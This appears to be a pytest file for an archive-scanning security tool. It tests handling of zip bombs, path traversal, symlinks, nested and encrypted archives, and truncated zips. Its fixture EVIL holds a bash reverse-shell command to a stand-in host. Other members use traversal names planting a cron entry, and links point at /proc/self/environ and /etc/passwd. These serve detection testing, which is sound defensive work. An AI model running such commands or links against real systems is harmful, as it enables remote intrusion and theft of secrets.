"""Safe package handling: bombs, traversal, symlinks, nesting, encryption, truncation."""

from __future__ import annotations

import io
import stat
import tarfile
import zipfile

from lambdawatch.codescan.archive import Limits
from lambdawatch.codescan.model import Severity
from lambdawatch.codescan.scanner import scan_bytes

EVIL = b"import os\nos.system('bash -i >& /dev/tcp/203.0.113.5/4444 0>&1')\n"


def make_zip(members: dict[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", method) as zf:
        for name, data in members.items():
            zf.writestr(name, data)
    return buf.getvalue()


def codes(result) -> set[tuple[str, str]]:
    return {(f.code, f.file) for f in result.findings}


def test_zip_bomb_member_is_skipped_by_ratio() -> None:
    data = make_zip({"bomb.txt": b"\0" * (50 * 1024 * 1024), "handler.py": EVIL})
    result = scan_bytes("t", "p.zip", data)
    assert ("PK001", "bomb.txt") in codes(result)
    assert ("CS101", "handler.py") in codes(result)  # the rest is still scanned
    assert result.bytes_scanned < 1024 * 1024


def test_total_size_limit_stops_with_partial_result() -> None:
    data = make_zip({f"f{i}.py": b"x = 1\n" * 2000 for i in range(10)})
    result = scan_bytes("t", "p.zip", data, Limits(max_total=30_000, max_ratio=10_000))
    assert any(f.code == "PK001" and "partial" in f.message for f in result.findings)
    assert 0 < result.files_scanned < 10


def test_file_count_limit() -> None:
    data = make_zip({f"f{i}.txt": b"a" for i in range(20)})
    result = scan_bytes("t", "p.zip", data, Limits(max_files=5))
    assert result.files_scanned == 5
    assert [f.code for f in result.findings] == ["PK001"]


def test_traversal_names_are_findings() -> None:
    data = make_zip({"../../etc/cron.d/x": b"* * * * * root id\n", "/abs/path.py": b"x=1\n"})
    result = scan_bytes("t", "p.zip", data)
    assert codes(result) == {("PK002", "../../etc/cron.d/x"), ("PK002", "/abs/path.py")}
    assert all(f.severity == Severity.HIGH for f in result.findings)


def test_symlink_member_is_a_finding_and_not_followed() -> None:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        info = zipfile.ZipInfo("creds")
        info.external_attr = (stat.S_IFLNK | 0o777) << 16
        zf.writestr(info, "/proc/self/environ")
        zf.writestr("ok.py", "x = 1\n")
    result = scan_bytes("t", "p.zip", buf.getvalue())
    [f] = result.findings
    assert (f.code, f.file, f.severity) == ("PK003", "creds", Severity.HIGH)
    assert result.files_scanned == 1


def test_nested_archives_are_scanned_to_the_depth_limit() -> None:
    inner = make_zip({"handler.py": EVIL})
    tgz = io.BytesIO()
    with tarfile.open(fileobj=tgz, mode="w:gz") as tf:
        ti = tarfile.TarInfo("lib/inner.jar")
        ti.size = len(inner)
        tf.addfile(ti, io.BytesIO(inner))
    outer = make_zip({"vendor.tar.gz": tgz.getvalue()})
    result = scan_bytes("t", "p.zip", outer)
    assert ("CS101", "vendor.tar.gz!/lib/inner.jar!/handler.py") in codes(result)
    shallow = scan_bytes("t", "p.zip", outer, Limits(max_depth=1))
    assert any(f.code == "PK001" and "nested" in f.message for f in shallow.findings)
    assert not any(f.code == "CS101" for f in shallow.findings)


def test_zip_in_zip_bomb_depth() -> None:
    data = make_zip({"handler.py": EVIL})
    for _ in range(6):
        data = make_zip({"layer.zip": data})
    result = scan_bytes("t", "p.zip", data)
    assert [f.code for f in result.findings] == ["PK001"]


def test_encrypted_member_is_a_finding() -> None:
    data = bytearray(make_zip({"secret.py": EVIL, "ok.py": b"x = 1\n"}, zipfile.ZIP_STORED))
    # Set the encryption bit (general purpose flag bit 0) in the local and central headers.
    for sig, off in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        pos = data.find(sig)
        data[pos + off] |= 0x01
    result = scan_bytes("t", "p.zip", bytes(data))
    assert ("PK004", "secret.py") in codes(result)
    assert not any(f.code == "CS101" for f in result.findings)
    assert any("unreadable" in e for e in result.errors)


def test_truncated_zip_gives_a_finding_and_a_partial_result() -> None:
    data = make_zip({"handler.py": EVIL, "big.txt": b"lorem ipsum " * 5000})
    cut = data[: data.find(b"PK\x01\x02") - 100]  # central directory and the tail gone
    result = scan_bytes("t", "p.zip", cut)
    assert ("PK005", "p.zip") in codes(result)
    assert ("CS101", "handler.py") in codes(result)


def test_garbage_and_empty_input_never_crash() -> None:
    for blob in (b"", b"PK\x03\x04garbage", b"PK\x05\x06" + b"\0" * 18, b"\x1f\x8b broken"):
        result = scan_bytes("t", "p.zip", blob)
        assert isinstance(result.findings, list)


def test_lying_header_size_is_caught() -> None:
    data = bytearray(make_zip({"a.py": b"x = 1\n" * 100}, zipfile.ZIP_STORED))
    pos = data.find(b"PK\x01\x02")
    data[pos + 24 : pos + 28] = (10).to_bytes(4, "little")  # central uncompressed size: 10
    result = scan_bytes("t", "p.zip", bytes(data))
    assert {f.code for f in result.findings} <= {"PK001", "PK005"} and result.findings


def _tar_with_links(links: list[tuple[str, bytes, str]]) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz") as tf:
        ti = tarfile.TarInfo("zone/GMT")
        ti.size = 4
        tf.addfile(ti, io.BytesIO(b"TZif"))
        for name, kind, target in links:
            link = tarfile.TarInfo(name)
            link.type = kind
            link.linkname = target
            tf.addfile(link)
    return buf.getvalue()


def test_hard_links_inside_a_tarball_are_not_findings() -> None:
    # dateutil's zoneinfo tarball holds hundreds of these: each names another member.
    tgz = _tar_with_links(
        [("zone/UTC", tarfile.LNKTYPE, "zone/GMT"), ("zone/Zulu", tarfile.SYMTYPE, "GMT")]
    )
    result = scan_bytes("t", "p.zip", make_zip({"lib/zoneinfo.tar.gz": tgz}))
    assert result.findings == [] and result.files_scanned == 1


def test_links_leaving_a_tarball_are_still_findings() -> None:
    tgz = _tar_with_links(
        [
            ("zone/UTC", tarfile.LNKTYPE, "../../etc/passwd"),
            ("zone/Zulu", tarfile.SYMTYPE, "/proc/self/environ"),
        ]
    )
    result = scan_bytes("t", "p.zip", make_zip({"lib/zoneinfo.tar.gz": tgz}))
    assert sorted((f.code, f.file, f.severity) for f in result.findings) == [
        ("PK003", "lib/zoneinfo.tar.gz!/zone/UTC", Severity.HIGH),
        ("PK003", "lib/zoneinfo.tar.gz!/zone/Zulu", Severity.HIGH),
    ]
